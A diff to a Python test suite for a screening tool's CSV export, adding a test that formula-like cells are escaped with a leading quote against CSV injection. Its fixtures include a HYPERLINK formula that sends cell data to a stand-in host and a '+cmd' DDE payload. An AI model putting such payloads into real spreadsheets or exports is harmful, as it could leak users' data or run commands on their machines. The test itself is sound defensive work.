@@ -15,7 +15,8 @@ from pathlib import Path
 
 import pandas as pd
 
-from screening.export import to_csv, to_ris
+from screening.export import to_ris
+from screening.export_csv import to_csv
 from screening.stages.ingest import RawSource, ingest
 
 FIX = Path(__file__).resolve().parents[1] / "fixtures" / "exports"
@@ -110,3 +111,31 @@ def test_csv_and_ris_exports_read_back_a_scraped_abstract_alike() -> None:
     via_ris = ingest([RawSource("export.ris", to_ris(_exported(table)).encode("utf-8"))]).records
     via_csv = ingest([RawSource("export.csv", to_csv(_exported(table)).encode("utf-8-sig"))]).records
     assert via_ris["abstract"].tolist() == via_csv["abstract"].tolist() == [abstract]
+
+
+# formula-like starts (the acceptance tester's titles), and values that begin with quotes
+# already: escaping must give each back exactly
+_FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click") ', "+cmd|' /C calc'!A0 ", "@SUM(1+1) ", "=1+1 ",
+             "-", "'=already quoted ", "''+twice ")
+
+
+def test_formula_like_cells_are_escaped_and_read_back_as_they_were() -> None:
+    """CSV injection (acceptance testing): a text cell starting with '=', '+', '-' or '@' was
+    written as it was, and Excel, for which the CSV is recommended, runs it as a formula.
+    Such cells get a leading "'" (OWASP); numbers (year, a negative score) do not, and the
+    CSV reader strips the quote again, so the export reads back unchanged."""
+    table = _table(SOURCES)[:len(_FORMULAS)]
+    table = table.assign(title=[f + t for f, t in zip(_FORMULAS, table["title"])],
+                         abstract=["-" + a for a in table["abstract"]],
+                         notes=["@" + n if n else n for n in table["notes"]],
+                         score=[-0.5 + i for i in range(len(table))], rank=range(1, len(table) + 1))
+    text = to_csv(_exported(table).assign(reason="=wrong population"))
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["title"][:len(f) + 1] for r, f in zip(rows, _FORMULAS)] == ["'" + f for f in _FORMULAS]
+    assert {r["reason"] for r in rows} == {"'=wrong population"}
+    assert all(r["abstract"].startswith("'-") for r in rows)
+    assert rows[0]["score"] == "-0.5" and rows[0]["year"] == str(table["year"].iloc[0])     # numbers as they are
+    back = ingest([RawSource("export.csv", text.encode("utf-8-sig"))]).records
+    for column in ("title", "abstract", "notes", "journal", "doi"):
+        assert back[column].tolist() == table[column].tolist(), column
+    assert back["reason"].tolist() == ["=wrong population"] * len(table)      # an extra column, unescaped too
